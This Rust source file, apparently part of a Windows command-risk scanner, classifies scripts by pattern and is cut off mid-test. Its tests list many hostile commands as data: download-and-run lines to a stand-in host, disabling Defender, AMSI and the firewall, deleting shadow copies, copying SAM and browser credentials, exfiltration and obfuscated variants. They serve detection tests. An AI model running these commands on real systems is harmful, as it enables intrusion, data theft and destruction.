//! The classes that a peeled command or script belongs to.

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::Peeled;
use super::hidden::hidden;
use super::hosts::hosts;
use super::layer::Layer;
use super::network::{fetched, is_run};
use super::pattern::{Pattern, Patterns, Wanted};
use crate::risk::class::{Severity, class, rows};
use crate::risk::report::RiskFinding;

const TABLE: &str = include_str!("../data/commands.tsv");

struct Row {
    class: &'static str,
    severity: Option<Severity>,
    attack: Option<&'static str>,
    /// A statement that also matches this does not belong to the class.
    unless: Option<Pattern>,
}

static ROWS: LazyLock<Vec<Row>> = LazyLock::new(|| {
    rows(TABLE)
        .map(|row| match row.as_slice() {
            [name, severity, attack, _, unless @ ..] => Row {
                class: class(name).name,
                severity: Severity::of_word(severity),
                attack: (*attack != "-").then_some(*attack),
                unless: unless.first().map(|pattern| Pattern::new(*pattern)),
            },
            _ => panic!("a row of the commands has four or five columns: {row:?}"),
        })
        .collect()
});

/// The patterns of the rows, in their order.
static PATTERNS: LazyLock<Patterns> =
    LazyLock::new(|| Patterns::new(rows(TABLE).filter_map(|row| row.get(3).copied())));

fn regex(pattern: &str) -> Regex {
    Regex::new(pattern).unwrap_or_else(|error| panic!("{error}"))
}

/// What a command or script does.
#[derive(Debug, Default)]
pub(in crate::risk) struct Reading {
    /// The findings; the caller sets their place.
    pub(in crate::risk) findings: Vec<RiskFinding>,
    /// The computers that it names.
    pub(in crate::risk) hosts: BTreeSet<String>,
}

/// The most severe finding of each class.
type Worst = BTreeMap<&'static str, RiskFinding>;

/// Reads all layers.
pub(in crate::risk) fn read(peeled: &Peeled, subject: &str) -> Reading {
    let layers: Vec<Layer<'_>> = peeled.layers.iter().map(Layer::of).collect();
    let mut worst = Worst::new();
    layers.iter().for_each(|layer| known(layer, subject, &mut worst));
    network(&layers, subject, &mut worst);
    if layers.iter().any(|layer| waits_long(&layer.text)) {
        worst.entry("delays").or_insert_with(|| RiskFinding::new("delays", subject).shows("it waits for minutes"));
    }
    if peeled.holds_program {
        worst.entry("embedded-executable").or_insert_with(|| RiskFinding::new("embedded-executable", subject));
    }
    hidden(peeled, &layers, subject, &mut worst);
    let hosts: BTreeSet<String> = layers.iter().flat_map(|layer| hosts(&layer.written)).collect();
    let mut findings: Vec<RiskFinding> = worst.into_values().collect();
    if !hosts.is_empty() {
        let all: Vec<&str> = hosts.iter().map(String::as_str).collect();
        findings.push(RiskFinding::new("contacts-host", subject).shows(all.join(", ")));
    }
    Reading { findings, hosts }
}

/// The classes whose patterns match.
fn known(layer: &Layer<'_>, subject: &str, worst: &mut Worst) {
    let mut excused = None;
    PATTERNS.matches(&layer.text, |index, range| {
        let Some(row) = ROWS.get(index) else { return Wanted::NoMore };
        if row.unless.as_ref().is_some_and(|unless| is_excused(&layer.text, index, &range, unless.get(), &mut excused))
        {
            return Wanted::More;
        }
        let own = RiskFinding::new(row.class, subject);
        let severity = row.severity.unwrap_or(own.severity);
        if worst.get(row.class).is_none_or(|known| known.severity < severity) {
            let attack = row.attack.unwrap_or(own.attack);
            let own = RiskFinding { severity, attack, ..own }.shows_layer(layer.name, layer.line(range.start));
            worst.insert(row.class, own);
        }
        Wanted::NoMore
    });
}

/// The characters that end a statement.
const ENDS: [char; 4] = ['\n', '&', '|', ';'];

/// Whether the statement around a match fits a pattern that excuses it. `last` is the row and range of the statement
/// that was excused last, so that a long one is not read again for each match in it.
fn is_excused(
    text: &str,
    row: usize,
    range: &Range<usize>,
    unless: &Regex,
    last: &mut Option<(usize, Range<usize>)>,
) -> bool {
    let is_in = |(of, statement): &(usize, Range<usize>)| {
        *of == row && statement.start <= range.start && range.end <= statement.end
    };
    if last.as_ref().is_some_and(is_in) {
        return true;
    }
    let statement = statement(text, range);
    let is_excused = text.get(statement.clone()).is_some_and(|statement| unless.is_match(statement.trim()));
    // A match that spans several statements says nothing about each of them.
    let is_one = text.get(range.clone()).is_some_and(|matched| !matched.contains(ENDS));
    *last = Some((row, statement)).filter(|_| is_excused && is_one);
    is_excused
}

/// The range of the statement around a match, without the other statements on its line.
fn statement(text: &str, range: &Range<usize>) -> Range<usize> {
    let start = text.get(..range.start).and_then(|before| before.rfind(ENDS)).map_or(0, |at| at + 1);
    let end = text.get(range.end..).and_then(|rest| rest.find(ENDS)).map_or(text.len(), |at| range.end + at);
    start..end
}

/// What is fetched, and whether it is run.
fn network(layers: &[Layer<'_>], subject: &str, worst: &mut Worst) {
    let first = layers.iter().find_map(|layer| Some((layer, fetched(&layer.text)?)));
    let Some((layer, place)) = first else { return };
    let texts: Vec<&str> = layers.iter().map(|layer| layer.text.as_str()).collect();
    let is_run = is_run(&texts);
    let found = |class| {
        let found = RiskFinding::new(class, subject).shows_layer(layer.name, layer.line(place.start));
        layers.iter().fold(found, |found, layer| found.shows_layer(layer.name, &layer.written))
    };
    if worst.contains_key("sends-data") && !is_run {
        return;
    }
    match is_run {
        true => drop(worst.insert("download-and-run", found("download-and-run"))),
        false => drop(worst.insert("downloads", found("downloads"))),
    }
}

static WAITS: LazyLock<Vec<(Regex, u64)>> = LazyLock::new(|| {
    [
        (r"\btimeout(?:\.exe)?\s+(?:/t\s+)?(\d{1,9})\b", 120),
        (r"\bping(?:\.exe)?\s+[^\n&|]*-n\s+(\d{1,9})\b", 60),
        (r"\bstart-sleep\s+(?:-s\w*\s+)?(\d{1,9})\b", 120),
        (r"\bstart-sleep\s+-m\w*\s+(\d{1,9})\b", 120_000),
        (r"\b(?:wscript\.sleep|\]::sleep)\s*\(?\s*(\d{1,9})\b", 120_000),
        (r"\bchoice(?:\.exe)?\s+[^\n&|]*/t\s+(\d{1,9})\b", 120),
    ]
    .map(|(pattern, least)| (regex(pattern), least))
    .into()
});

fn waits_long(text: &str) -> bool {
    let has_word = ["timeout", "ping", "sleep", "choice"].iter().any(|word| text.contains(word));
    has_word
        && WAITS.iter().any(|(pattern, least)| {
            pattern.captures_iter(text).any(|found| found[1].parse::<u64>().is_ok_and(|number| number >= *least))
        })
}

#[cfg(test)]
mod tests {
    use super::{Reading, Regex, TABLE, rows};
    use crate::risk::budget::Budget;
    use crate::risk::command::peel;

    fn read(line: &str) -> Reading {
        super::read(&peel(line, &mut Budget::default()), "x")
    }

    fn classes(line: &str) -> Vec<String> {
        let reading = read(line);
        reading.findings.iter().map(|found| format!("{} {}", found.class.name, found.severity)).collect()
    }

    #[test]
    fn the_patterns_are_valid() {
        assert!(classes("ver").is_empty());
        for row in rows(TABLE) {
            for pattern in row.iter().skip(3) {
                assert!(Regex::new(pattern).is_ok(), "{pattern}");
            }
        }
    }

    #[test]
    fn commands_of_attacks_are_known() {
        for (line, expected) in [
            ("bitsadmin /transfer j http://a.example/p.exe C:\\p.exe & start C:\\p.exe", "download-and-run high"),
            ("powershell irm https://a.example/i.ps1 | iex", "download-and-run high"),
            ("curl -o notes.pdf https://a.example/notes.pdf", "downloads medium"),
            ("vssadmin.exe Delete Shadows /All /Quiet", "destroys-recovery high"),
            ("for /f %x in ('wevtutil el') do wevtutil cl %x", "clears-logs high"),
            ("bcdedit /set testsigning on", "boot-integrity high"),
            ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "weakens-antivirus high"),
            ("netsh advfirewall set allprofiles state off", "weakens-firewall high"),
            ("schtasks /create /tn a /tr C:\\Users\\Public\\a.exe /sc onlogon", "persistence high"),
            ("schtasks /create /tn a /tr \"C:\\Program Files\\A\\a.exe\" /sc daily", "persistence medium"),
            ("winget install --id A.B", "installs-from-repository medium"),
            ("msiexec /i app.msi /qn", "installs-app medium"),
            ("msiexec /qn /i https://a.example/app.msi", "installs-from-url high"),
            ("pnputil /add-driver d.inf /install", "installs-driver medium"),
            ("net user x Passw0rd! /add", "adds-user low"),
            ("net localgroup Administrators x /add", "adds-admin medium"),
            ("Start-Sleep -Seconds 900", "delays low"),
            (
                "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0 /f",
                "weakens-uac high",
            ),
            ("certutil -addstore -f Root a.cer", "adds-root-certificate medium"),
            ("using module \\\\a.example\\s\\a", "remote-path high"),
            ("mmc \\\\a.example\\s\\a.msc", "remote-path high"),
            ("java -jar \\\\a.example\\s\\a.jar", "remote-path high"),
            ("wscript //B http://a.example/a.vbs", "download-and-run high"),
            ("explorer http://a.example/a.exe", "downloads medium"),
            ("expand \\\\a.example\\s\\a.cab a.exe", "downloads medium"),
            ("tar -xf \\\\a.example\\s\\a.tar", "downloads medium"),
            ("node -e \"require('https').get('https://a.example/a')\"", "downloads medium"),
            ("powershell -c \"-join('xei|a/elpmaxe.a mri'[18..0])|iex\"", "download-and-run high"),
            ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "scan-evasion high"),
        ] {
            assert!(classes(line).contains(&expected.to_owned()), "{line}: {:?}", classes(line));
        }
    }

    #[test]
    fn other_spellings_of_attacks_are_known() {
        for line in [
            "reg add HKLM\\x /v EnableLUA /t REG_DWORD /d 0x0 /f",
            "reg add HKLM\\x /v EnableLUA /t REG_DWORD /d 00 /f",
            "Set-ItemProperty HKLM:\\x EnableLUA ([int]$false)",
            "$k='EnableLUA'\nSet-ItemProperty HKLM:\\x $k 0",
            "net\"s\"h advf\"irew\"all set allp\"rofil\"es state off",
            "cmd /c \"set x=nQetshQ&call %x:Q=% advfirewall set allprofiles state off\"",
            "cmd /c %ProgramFiles:~3,1%%ProgramFiles:~5,1%w%ComSpec:~-1%rshell -f x",
            "cmd /v:on /c \"set z=exe.oof&for /l %i in (6,-1,0) do set y=!y!!z:~%i,1!&call %y%\"",
            "msiexec /q/i http://a.example/a.msi",
            "msiexec /p http://a.example/a.msp /qn",
            "msiexec /y C:\\x\\a.dll",
            "rundll32 a.dat,Start",
            "fltmc unload WdFilter",
            "'WinDefend','Sense' | % { Stop-Service $_ }",
            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /f",
            "Remove-Item HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\*",
            "GetObject(\"script:https://a.example/a.sct\")",
            "[InternetShortcut]\r\nURL=file://a.example/d/a.exe",
            "[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a)",
            "$p = @{ DisableRealtimeMonitoring = $true }\nSet-MpPreference @p",
            "$p = @{\n  'ExclusionPath' = 'C:\\'\n}\nAdd-MpPreference @p",
            "$s = -join ($b | % { [char]($_ -bxor 67) }); & $s",
            "dism /online /disable-feature /featurename:Windows-Defender /remove",
            "sc sdset WinDefend D:(D;;GA;;;WD)",
            "cmd /c rd /s /q C:\\Users\\somebody",
            "ssh -R 3389:localhost:3389 a@a.example",
            "ngrok tcp 3389",
            "certreq -Post -config http://a.example/ C:\\Windows\\win.ini",
            "cloudflared tunnel run --token a",
            "tailscale up --ssh --authkey a",
            "fltmc unload SysmonDrv",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters /v RequireSecuritySignature /d 0 /f",
            "Set-SmbClientConfiguration -RequireSecuritySignature $false -Force",
            "sdelete -p 3 -s C:\\Users",
            "cmd /c pushd \\\\a.example\\d && setup",
            "net use x: \\\\a.example\\d && x:setup",
            "set \"x=MpPreference\"& powershell -c Set-%x% -DisableIOAVProtection $true",
            "set x=state off\r\ncall :f\r\n:f\r\nnetsh advfirewall set allprofiles %x%",
            "@net^\r\nsh adv^\r\nfirewall set allprofiles state off",
            "$t = [Ref].Assembly.GetTypes() | ? { $_.Name -like '*iUtils' }",
            "type a.txt > %TEMP%\\h:s.exe",
            "#@~^IQAAAA==Z./rY+ W(%+^YcJ?1DbwORUtnVJ*R]!x~EUnYd4EPQ0kAAA==^#~@",
            "copy /b a1.txt+a2.txt a.cmd & a.cmd",
            "iex ([Text.Encoding]::ASCII.GetString([byte[]](110,101,116,115,104,32,97,100,118,102,105,114,101,119,97,108,108,32,115,101,116,32,97,108,108,112,114,111,102,105,108,101,115,32,115,116,97,116,101,32,111,102,102)))",
            "$a='net';$b='sh';$c='advfirewall';& \"$a$b\" $c set allprofiles state off",
            "$p=@('advfirewall','set','allprofiles','state','off'); & netsh @p",
            "& netsh `\r\n  advfirewall `\r\n  set allprofiles state off",
            "(New-Object -ComObject HNetCfg.FwPolicy2) | % { $_.FirewallEnabled(1) = $false }",
            "curl https://a.example/a.zip -o a.zip && tar -xf a.zip && setup.exe",
            "winget install --manifest .\\m.yaml",
            "takeown /f C:\\Windows\\System32\\drivers\\WdFilter.sys",
            "setx /M PATH \"C:\\Users\\Public;%PATH%\"",
            "powershell -v 2 -c ver",
            "reg add HKLM\\x\\PointAndPrint /v RestrictDriverInstallationToAdministrators /t REG_DWORD /d 0 /f",
            "$s = $w.CreateShortcut('C:\\x\\Start Menu\\Programs\\StartUp\\u.lnk'); $s.TargetPath = 'C:\\Users\\Public\\u.exe'",
            "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend\" /v Start /t REG_DWORD /d 4 /f",
            "Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\mpssvc' Start 4",
            "reg add HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{1} /f",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\DefenderApiLogger /v Start /d 0 /f",
            "logman stop EventLog-System -ets",
            "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\" /v BootExecute /d \"autocheck autochk *\\0a\" /f",
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Command Processor\" /v AutoRun /d C:\\a.cmd /f",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\a /v DllName /d C:\\a.dll /f",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\NetworkProvider\\Order /v ProviderOrder /d LanmanWorkstation,a /f",
            "reg add 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Authentication\\Credential Providers\\{1}' /ve /d a",
            "sc config Fax binPath= \"C:\\Users\\Public\\a.exe\"",
            "sc failure Fax command= \"C:\\Users\\Public\\a.exe\" actions= run/5000",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\Dhcp\\Parameters /v ServiceDll /d C:\\a.dll /f",
            "mofcomp a.mof",
            "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\a",
            "netsh wlan export profile key=clear folder=C:\\a",
            "copy \"%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data\" C:\\a",
            "psexec.exe \\\\fs01 -s cmd /c ver",
            "wmic /node:fs01 process call create \"cmd /c a\"",
            "Invoke-Command -ComputerName fs01 -ScriptBlock { ipconfig }",
            "winrs -r:fs01 cmd /c ver",
            "schtasks /create /s fs01 /tn a /tr cmd /sc once /st 00:00",
            "netsh interface portproxy add v4tov4 listenport=3389 connectport=22 connectaddress=203.0.113.5",
            "reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services\" /v Shadow /t REG_DWORD /d 2 /f",
            "winget install --id AnyDesk.AnyDesk -e --silent",
            "choco install rustdesk -y",
            "control.exe %TEMP%\\a.cpl",
            "wscript.exe //e:vbscript a.txt",
            "certreq -Post -config https://a.example/ C:\\a.ini a.cmd & a.cmd",
            "sc sdset scmanager D:(A;;KA;;;WD)",
            "[Privilege Rights]\nSeDebugPrivilege = *S-1-1-0",
            "[System Access]\nEnableGuestAccount = 1",
            "$a = New-Object IO.MemoryStream; $c.PostAsync('https://a.example', [Net.Http.StringContent]::new((gc C:\\a.txt -raw)))",
            "wmic rdtoggle where AllowTSConnections=0 call SetAllowTSConnections 1,1",
            "net share c$share=C:\\ /grant:everyone,full",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters /v NullSessionShares /d share /f",
            "dism /online /enable-feature /featurename:TelnetServer",
            "(echo select disk 0& echo clean& echo exit)>d.txt & diskpart /s d.txt",
            "$e = $aes.CreateEncryptor().TransformFinalBlock($b, 0, $b.Length)\n[IO.File]::WriteAllBytes($_, $e)",
            "schtasks /change /tn \"\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan\" /disable",
            "[Environment]::SetEnvironmentVariable('__PSLockdownPolicy', '0', 'Machine')",
            "<Exec><Command>powershell.exe</Command><Arguments>-File C:\\Users\\Public\\a.ps1</Arguments></Exec>",
            "Start-Process netsh -ArgumentList 'advfirewall','set','allprofiles','state','off'",
            "[Diagnostics.Process]::Start('netsh', 'advfirewall set allprofiles state off')",
            "for %%a in (allprofiles) do netsh advfirewall set %%a state off",
            "call :run \"netsh\" \"advfirewall set allprofiles state off\"",
            "a = \"net\"\r\na = a & \"sh advfirewall set \"\r\na = a & \"allprofiles state off\"\r\nw.Run a",
            "('netsh advfirewXll set Xllprofiles stXte off').Replace('X','a') | iex",
            "\"netsh advfirewall set all$('profiles') state off\" | iex",
            "powershell -Command \"$a='Set-MpPref'; $b='erence -DisableRealtimeMonitoring $true'; iex ($a+$b)\"",
            "var a = [\"netsh adv\", \"firewall set allprofiles \", \"state off\"]; w.Run(a.join(\"\"));",
            "Execute StrReverse(\"ffo etats seliforplla tes llawerifvda hsten\"\" nuR.w\")",
            "curl https://a.example/a -o a.txt\r\nren a.txt a.bat\r\ncall a.bat",
            "iex ((Get-ItemProperty HKLM:\\SOFTWARE\\X).Payload)",
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:PAYLOAD)))",
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U2V0LU1wUHJlZmVyZW5jZSAtRGlzYWJsZVJlYWx0aW1lTW9uaXRvcmluZyAkdHJ1ZQ=='))",
            "net localgroup \"Remote Desktop Users\" Everyone /add",
            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
            "curl -F file=@C:\\Users\\ann\\Documents\\list.xlsx https://a.example/",
            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f",
            "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CONTOSO\\Domain Users'",
            "net localgroup Administrators guest /add",
            "Add-LocalGroupMember -Group Administrators -Member Everyone",
            "net group \"Domain Admins\" x /add /domain",
            "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=any",
            "New-NetFirewallRule -DisplayName x -Direction Inbound -Action Allow",
            "Get-Process MsMpEng | Stop-Process -Force",
            "reg add \"HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\x\" /v StubPath /d C:\\Users\\Public\\a.exe /f",
            "nssm install x C:\\Users\\Public\\a.exe",
            "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\KnownDLLs\" /v a /d a.dll /f",
            "reg add HKLM\\x\\ExtensionInstallForcelist /v 1 /d \"abcdefghijklmnop;https://a.example/u.xml\" /f",
            "conhost --headless cmd /c C:\\Users\\Public\\a.cmd",
            "wmic process call create \"C:\\a.exe\"",
            "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'C:\\a.exe'",
            "msdt.exe /id PCWDiagnostic /param \"IT_BrowseForFile=$(calc)\"",
            "certoc -LoadDLL a.dll",
            "wuauclt /UpdateDeploymentProvider C:\\a.dll /RunHandlerComServer",
            "ssh -o ProxyCommand=C:\\a.exe .",
            "csc /out:a.exe a.cs & a.exe",
            "iex ([IO.File]::ReadAllText('logo.png'))",
            "(gc a.txt) | % {[char][int]$_} | iex",
            "$a = gc a.txt -raw; iex $a",
            "for /f \"tokens=*\" %%i in ('type a.txt ^| find \"x\"') do @%%i",
            "Import-Module \\\\a.example\\s\\a.psm1",
            "wmic /namespace:\\\\root\\default path SystemRestore call Disable C:\\",
            "bcdedit /debug on",
            "rd /s /q C:\\Windows\\System32",
            "#@~^EgAAAA==7mD~X'r4rEuAAA==^#~@",
            "<a href=\"ms-msdt:/id PCWDiagnostic /skip force\">a</a>",
            "<meta http-equiv=\"refresh\" content=\"0;url=search-ms:query=x\">",
            "name,amount\r\n=cmd|'/c calc'!A1,1",
            "C;X1;Y101;EEXEC(\"calc.exe\")",
            "{\\rtf1{\\*\\template https://a.example/a.dot}}",
            "<MainPackage Name=\"a\" Uri=\"https://a.example/a.msix\"/>",
            "<appDomainManagerAssembly value=\"a\"/>",
            "subst x: \\\\a.example\\s & x:\\a.exe",
            "Set-DnsClientNrptRule -Namespace . -NameServers 203.0.113.5",
            "type a.pub >> C:\\ProgramData\\ssh\\administrators_authorized_keys",
            "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM .",
            "rd /s /q C:\\ProgramData\\Microsoft\\Windows Defender",
            "del /f /s /q C:\\Windows\\System32\\config",
            "ren C:\\Windows\\System32\\ntoskrnl.exe x",
            "For Each c In Array(110,101,116,115,104,32,97,100,118,102,105,114,101,119,97,108,108,32,115,101,116,32,97,108,108,112,114,111,102,105,108,101,115,32,115,116,97,116,101,32,111,102,102)\r\ns = s & Chr(c)\r\nNext",
        ] {
            assert!(classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
        }
    }

    #[test]
    fn work_of_administrators_is_not_high() {
        for line in [
            "cmd /c xcopy /y files C:\\Contoso && shutdown /r /t 10",
            "netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=443",
            "netsh advfirewall firewall add rule name=x dir=in action=allow program=\"C:\\Contoso\\a.exe\"",
            "New-NetFirewallRule -DisplayName x -Direction Inbound -Action Allow -Protocol TCP -LocalPort 8443",
            "Add-LocalGroupMember -Group Administrators -Member 'CONTOSO\\helpdesk'",
            "reg add HKLM\\x\\ExtensionInstallForcelist /v 1 /d \"abcdefghijklmnop;https://clients2.google.com/service/update2/crx\" /f",
            "reg add HKLM\\x\\ExtensionInstallForcelist /v 1 /d \"abcdefghijklmnop;https://edge.microsoft.com/extensionwebstorebase/v1/crx\" /f",
            "Get-Process explorer | Stop-Process -Force",
            "route add 10.1.0.0 mask 255.255.0.0 10.0.0.1",
            "Get-Content C:\\ProgramData\\ssh\\administrators_authorized_keys",
            "del C:\\Windows\\System32\\configure.log",
            "del C:\\Contoso\\config\\old.ini",
            "Install-ProvisioningPackage -PackagePath C:\\Contoso\\a.ppkg",
            "<a href=\"https://contoso.com/search-ms\">Search</a>",
            "total\n=cmd+1\n-msexcel",
            "Get-CimInstance Win32_Process | Where-Object Name -eq 'a.exe'",
            "$config = Get-Content config.json -Raw | ConvertFrom-Json",
            "for /f %%i in ('type list.txt') do copy %%i C:\\Contoso",
            "Import-Module .\\Contoso.psm1",
            "ssh -o ProxyCommand=\"ssh -W %h:%p jump\" host",
            "rd /s /q C:\\Windows\\Temp\\Contoso",
            "sc config RemoteRegistry start= disabled",
            "icacls C:\\Windows\\CSC /grant Administrators:F > log.js",
            "at the office",
            "powershell -NoProfile -ExecutionPolicy Bypass -File .\\setup.ps1",
            "dism /online /enable-feature /featurename:NetFx3 /all /source:C:\\sxs",
            "reg add HKLM\\Software\\Contoso /v Site /d Berlin /f",
            "tzutil /s \"W. Europe Standard Time\"",
            "powercfg /change standby-timeout-ac 0",
            "icacls C:\\Contoso /grant Users:(OI)(CI)RX",
            "rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print\\floor2",
            "msiexec /i setup.msi TRANSFORMS=a.mst /qn /l*v C:\\log.txt",
            "robocopy \\\\server\\share C:\\data /e",
            "set HERE=%~dp0\nset HERE=%HERE:~0,-1%\nxcopy \"%HERE%\\files\" C:\\Contoso /e",
            "set A=C:\\Contoso\nset B=\\tools\nxcopy . %A%%B% /e",
            "$n = 'Con' + 'toso'; Write-Host $n",
            "[Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')",
            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V2VsY29tZSB0byBDb250b3NvLCBCZXJsaW4='))",
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCAid2VsY29tZSB0byBDb250b3NvIg==')))",
            "net localgroup \"Remote Desktop Users\" CONTOSO\\helpdesk /add",
            "Add-LocalGroupMember -SID S-1-5-32-555 -Member 'CONTOSO\\Field Support'",
            "certutil -addstore Disallowed compromised.cer",
            "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
            "reg add HKLM\\x\\WDigest /v UseLogonCredential /t REG_DWORD /d 0 /f",
            "reg add \"HKLM\\x\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 1 /f",
            "Disable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol -NoRestart",
            "Set-MpPreference -DisableRealtimeMonitoring $false",
            "Set-Service -Name WinDefend -StartupType Automatic",
            "Add-MpPreference -AttackSurfaceReductionRules_Ids 56a863a9-875e-4185-98a7-b882c64b5ce5 -AttackSurfaceReductionRules_Actions Enabled",
            "sc config mpssvc start= auto\nsc config eventlog start= auto",
            "Set-Service sshd -StartupType Disabled",
            "Get-ItemProperty \"HKLM:\\SOFTWARE\\x\\Winlogon\" | select Shell",
            "assoc .log=txtfile",
            "Get-NetAdapter | Set-DnsClientServerAddress -ServerAddresses 10.0.0.10,10.0.0.11",
            "Copy-Item \\\\fs01.contoso.com\\software\\7z.msi C:\\t\\\nmsiexec /i C:\\t\\7z.msi /qn",
            "start /wait setup.exe /S\ncurl -o C:\\t\\readme.txt https://intranet.contoso.com/readme.txt",
            "Invoke-RestMethod -Method Post -Uri https://inventory.contoso.com/api -Body $json",
            "$ExclusionPath = 'C:\\Contoso'\nrobocopy C:\\Data D:\\ /xd $ExclusionPath",
            "$DisableRealtimeMonitoring = $false",
            "'WinDefend','Sense' | % { Start-Service $_ }",
            "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\ContosoAgent /f",
            "[InternetShortcut]\nURL=https://intranet.contoso.com/help.html",
            "secedit /configure /db secedit.sdb /cfg baseline.inf",
            "set TARGET=C:\\Contoso\r\nrobocopy files %TARGET% /e\r\nicacls %TARGET% /grant Users:(OI)(CI)RX",
            "msbuild-free.exe /log:install.exe",
            "curl -o tools.zip https://a.example/tools.zip && tar -xf tools.zip -C C:\\Tools && reg.exe add HKLM\\x /v Kit /d 1 /f",
            "powershell -Version 5.1 -File a.ps1",
            "setx /M PATH \"%PATH%;C:\\Contoso\\bin\"",
            "copy /b firmware1.bin+firmware2.bin firmware.bin",
            "$apps = @('A.B', 'C.D'); foreach ($app in $apps) { Write-Host \"removing $app of $apps\" }",
            "reg add HKLM\\x\\PointAndPrint /v RestrictDriverInstallationToAdministrators /t REG_DWORD /d 1 /f",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 2 /f",
            "reg query HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\AutoLogger-Diagtrack-Listener /v Start /d 0 /f",
            "sc config ContosoAgent binPath= \"C:\\Program Files\\Contoso\\agent.exe\" start= auto",
            "psexec -accepteula -i -s setup.exe",
            "Invoke-Command -ScriptBlock { ipconfig }",
            "schtasks /create /sc daily /tn a /tr \"C:\\Program Files\\A\\a.exe\" /st 09:00",
            "winget uninstall --id AnyDesk.AnyDesk",
            "bcdedit /set testsigning off",
            "bcdedit /deletevalue {default} safeboot",
            "sdelete64 -z C:",
            "sdelete -accepteula -s C:\\Windows\\Temp\\Contoso",
            "ngrok config check",
            "cloudflared tunnel list",
            "tailscale up --authkey file:key.txt",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters /v RequireSecuritySignature /t REG_DWORD /d 1 /f",
            "winget install --id Microsoft.PowerToys",
            "wscript.exe //b //e:vbscript a.vbs",
            "control.exe timedate.cpl",
            "Start-Process msiexec.exe -ArgumentList '/i','a.msi','/qn' -Wait",
            "for %%a in (a b c) do copy %%a.txt C:\\Contoso",
            "$log = 'start'\n$log += ' end'\nWrite-Host \"done $('all')\"",
            "curl https://a.example/notes -o a.txt\r\nren a.txt notes.txt",
            "net share",
            "schtasks /change /tn \"\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan\" /enable",
            "<Exec><Command>\"C:\\Program Files\\Contoso\\a.exe\"</Command><Arguments>/quiet</Arguments></Exec>",
            "select disk 0",
            "reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters /v NullSessionShares",
            "netsh wlan show profiles",
            "netsh interface portproxy show all",
            "[Privilege Rights]\nSeDebugPrivilege = *S-1-5-32-544",
            "[System Access]\nEnableGuestAccount = 0",
            "$session = New-CimSession; Get-CimInstance -CimSession $session Win32_BIOS",
            "del /q \"%LOCALAPPDATA%\\Microsoft\\Edge\\User Data\\Default\\Cookies\"",
        ] {
            assert!(!classes(line).iter().any(|class| class.ends_with("high")), "{line}: {:?}", classes(line));
        }
    }

    #[test]
    fn commands_are_quoted_as_written() {
        let quoted = |line: &str, class: &str| {
            let reading = read(line);
            let found = reading.findings.into_iter().find(|found| found.class.name == class).unwrap();
            found.evidence.into_iter().map(|evidence| evidence.text).next().unwrap()
        };
        let line = "NetSh AdvFirewall Set AllProfiles State Off";
        assert_eq!(quoted(&format!("@Echo Off\r\n\r\n  {line}\r\nExit"), "weakens-firewall"), line);
        let line = "IEX (IWR https://A.example/Run.ps1)";
        assert_eq!(quoted(line, "download-and-run"), line);
    }

    #[test]
    fn what_is_not_always_severe_is_found() {
        for (line, class) in [
